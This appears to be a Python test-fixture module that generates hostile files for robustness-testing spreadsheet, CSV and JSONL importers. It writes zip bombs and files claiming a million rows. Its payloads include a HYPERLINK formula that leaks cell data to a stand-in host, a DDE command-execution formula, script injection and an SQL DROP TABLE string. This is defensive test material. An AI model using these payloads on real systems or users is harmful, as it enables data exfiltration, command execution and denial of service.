"""Hostile files for the importers: 1 M empty rows, zip bombs, formulas, wrong types, garbage.

XLSX files are written as raw zip archives (a few kilobytes each) so that a file claiming a
million rows or expanding to hundreds of megabytes costs nothing to make. Each file is named for
what it tries; ``corpus(folder, header)`` writes the lot for one importer's header.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Sequence
from pathlib import Path
from xml.sax.saxutils import escape

from openpyxl.utils import get_column_letter

CONTENT_TYPES = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>
<Default Extension="xml" ContentType="application/xml"/>
<Override PartName="/xl/workbook.xml" \
ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>
<Override PartName="/xl/worksheets/sheet1.xml" \
ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>
</Types>"""
RELS = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" \
Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>
</Relationships>"""
WORKBOOK = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">
<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>"""
WORKBOOK_RELS = """<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" \
Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>
</Relationships>"""
SHEET_HEAD = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<worksheet '
              'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
SHEET_TAIL = "</sheetData></worksheet>"
FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "=cmd|' /C calc'!A0", "+1+1",
            "-2+3", "@SUM(1,1)", "=1/0"]


def _cell(row: int, col: int, value: object) -> str:
    ref = f"{get_column_letter(1 + col)}{row}"
    if value is None:
        return ""
    if isinstance(value, bool):
        return f'<c r="{ref}" t="b"><v>{int(value)}</v></c>'
    if isinstance(value, int | float):
        return f'<c r="{ref}"><v>{value}</v></c>'
    text = str(value)
    if text.startswith("="):
        return f'<c r="{ref}"><f>{escape(text[1:])}</f></c>'
    return f'<c r="{ref}" t="inlineStr"><is><t>{escape(text)}</t></is></c>'


def _row(number: int, values: Sequence[object]) -> str:
    return f'<row r="{number}">' + "".join(_cell(number, j, v) for j, v in enumerate(values)) + "</row>"


def write_xlsx(path: Path, rows: Sequence[Sequence[object]], *, filler: tuple[str, int] | None = None,
               last_row: int | None = None) -> Path:
    """A minimal XLSX; ``filler`` = (text, times) streamed into the sheet XML (the zip bomb);
    ``last_row`` puts one cell at that row so readers see that many (empty) rows."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("_rels/.rels", RELS)
        archive.writestr("xl/workbook.xml", WORKBOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", WORKBOOK_RELS)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(SHEET_HEAD.encode())
            for number, values in enumerate(rows, 1):
                sheet.write(_row(number, values).encode())
            if filler:
                text, times = filler
                chunk = (text * 4096).encode()
                for _ in range(times // 4096):
                    sheet.write(chunk)
            if last_row:
                sheet.write(f'<row r="{last_row}"><c r="A{last_row}" t="inlineStr"><is><t> </t></is></c></row>'
                            .encode())
            sheet.write(SHEET_TAIL.encode())
    return path


def write_csv(path: Path, rows: Sequence[Sequence[object]], *, blank_lines: int = 0) -> Path:
    buffer = io.StringIO()
    csv.writer(buffer).writerows([["" if v is None else v for v in row] for row in rows])
    with path.open("w", encoding="utf-8", newline="") as handle:
        handle.write(buffer.getvalue())
        if blank_lines:
            line = "," * max(0, len(rows[0]) - 1) + "\n" if rows else "\n"
            for _ in range(blank_lines // 10_000):
                handle.write(line * 10_000)
    return path


def write_jsonl(path: Path, header: Sequence[str], rows: Sequence[Sequence[object]]) -> Path:
    with path.open("w", encoding="utf-8") as handle:
        for row in rows:
            handle.write(json.dumps(dict(zip(header, row, strict=False)), ensure_ascii=False, default=str) + "\n")
    return path


def corpus(folder: Path, header: Sequence[str], good_row: Sequence[object]) -> list[Path]:
    """The hostile files for an importer whose columns are ``header``."""
    folder.mkdir(parents=True, exist_ok=True)
    width = len(header)
    formulas = [[FORMULAS[(i + j) % len(FORMULAS)] for j in range(width)] for i in range(6)]
    wrong = [[[1, 2], {"a": 1}, -1e308, "9" * 400, "\x00\u202e", True][j % 6] for j in range(width)]
    script = ['<script>alert(1)</script>홍길동' if j % 2 else "'; DROP TABLE persons; --" for j in range(width)]
    files = [
        write_xlsx(folder / "million-empty-rows.xlsx", [header, good_row], last_row=1_048_576),
        write_xlsx(folder / "zip-bomb.xlsx", [header], filler=(" ", 400 * 1024 * 1024)),
        write_xlsx(folder / "zip-bomb-rows.xlsx", [header], filler=("<row/>", 48 * 1024 * 1024)),
        write_xlsx(folder / "formulas.xlsx", [header, *formulas]),
        write_csv(folder / "formulas.csv", [header, *formulas]),
        write_xlsx(folder / "wrong-types.xlsx", [header, [str(v) for v in wrong]]),
        write_jsonl(folder / "wrong-types.jsonl", header, [wrong]),
        write_csv(folder / "script-and-sql.csv", [header, script]),
        write_csv(folder / "million-empty-rows.csv", [header, good_row], blank_lines=1_000_000),
        write_csv(folder / "header-only.csv", [header]),
        write_csv(folder / "no-header.csv", [good_row]),
        write_csv(folder / "ragged.csv", [header, good_row[:1], [*good_row, "extra", "more"]]),
    ]
    (folder / "garbage.xlsx").write_bytes(b"PK\x03\x04" + bytes(range(256)) * 64)
    (folder / "garbage.csv").write_bytes(bytes(range(256)) * 64)
    (folder / "truncated.xlsx").write_bytes(files[3].read_bytes()[:400])
    (folder / "empty.csv").write_bytes(b"")
    (folder / "deep.jsonl").write_text("[" * 100_000 + "]" * 100_000 + "\n")
    (folder / "long-line.jsonl").write_text('{"name": "' + "가" * 5_000_000 + '"}\n')
    (folder / "not-objects.jsonl").write_text('1\n"x"\nnull\n[1,2]\n{"name":\n')
    files += [folder / n for n in ("garbage.xlsx", "garbage.csv", "truncated.xlsx", "empty.csv",
                                   "deep.jsonl", "long-line.jsonl", "not-objects.jsonl")]
    return files
